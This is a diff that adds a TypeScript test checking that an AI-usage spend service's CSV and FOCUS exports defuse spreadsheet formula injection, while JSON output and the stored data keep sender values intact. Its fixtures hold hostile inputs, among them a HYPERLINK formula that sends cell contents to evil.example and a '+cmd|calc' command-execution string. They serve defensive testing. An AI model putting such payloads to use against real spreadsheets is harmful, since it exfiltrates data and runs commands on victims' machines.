@@ -234,6 +234,35 @@ describe('exports', () => {
     expect(days).toEqual([...days].sort());
   });
 
+  it('text a sender chose cannot become a spreadsheet formula in CSV; numbers, JSON and the view stay as sent', async () => {
+    const { key: ingest } = await server.key('sheets');
+    const { key: read } = await server.key('sheets', 'read');
+    const sent = {
+      userId: '=HYPERLINK("https://evil.example/?"&A1,"open")', model: '@SUM(A1:A9)', author: '+cmd|calc', sessionId: '-2+3',
+      apiKeyName: '\t=1', traceName: '\uFF1D1+1', metadata: { cost_center: '=1+2' },
+    };
+    const delivery = openRouterDelivery({ generationId: 'gen-sheets', inputTokens: 1, outputTokens: 1, totalCost: -0.0125, start: '2026-10-10T10:00:00Z', ...sent });
+    expect((await post(server.url, delivery, { key: ingest })).status).toBe(200);
+    const get = async (path: string) => parse(await (await fetch(`${server.url}/developer/v1/ai-usage/${path}&from=2026-10-01&to=2026-10-31`, { headers: { authorization: `Bearer ${read}` } })).text(), { columns: true }) as Row[];
+    const quoted = (v: string) => `'${v}`;
+
+    const [report] = await get('spend?format=csv&by=user,model,session,meta.cost_center');
+    expect(report).toMatchObject({ user: quoted(sent.userId), model: quoted(sent.model), session: quoted(sent.sessionId), 'meta.cost_center': "'=1+2", cost_usd: '-0.0125' });
+    const [row] = await get('export?format=csv');
+    expect(row).toMatchObject({
+      user_id: quoted(sent.userId), model: quoted(sent.model), provider: quoted(sent.author), session_id: quoted(sent.sessionId),
+      api_key_name: quoted(sent.apiKeyName), trace_name: quoted(sent.traceName), cost_usd: '-0.0125', generation_id: 'gen-sheets',
+    });
+    expect(JSON.parse(row!.metadata!)).toMatchObject(sent.metadata);
+    const [focus] = await get('export?format=focus');
+    expect(focus).toMatchObject({ ServiceName: quoted(sent.model), SkuId: quoted(sent.model), PublisherName: quoted(sent.author), BilledCost: '-0.0125' });
+
+    const json = (await (await fetch(`${server.url}/developer/v1/ai-usage/spend?from=2026-10-01&to=2026-10-31&by=user`, { headers: { authorization: `Bearer ${read}` } })).json()) as { rows: Row[] };
+    expect(json.rows[0]!.user).toBe(sent.userId);
+    const [view] = await server.query<Row>(`SELECT user_id, model, api_key_name FROM generations WHERE org = 'sheets'`);
+    expect(view).toEqual({ user_id: sent.userId, model: sent.model, api_key_name: sent.apiKeyName });
+  });
+
   it('ledger report and ledger export on the command line give the same figures', async () => {
     const json = await ledgerCli(['report', '--org', 'acme', '--from', FROM, '--to', TO, '--by', 'model', '--format', 'json'], ledger.env);
     expect(json.stderr).toBe('');
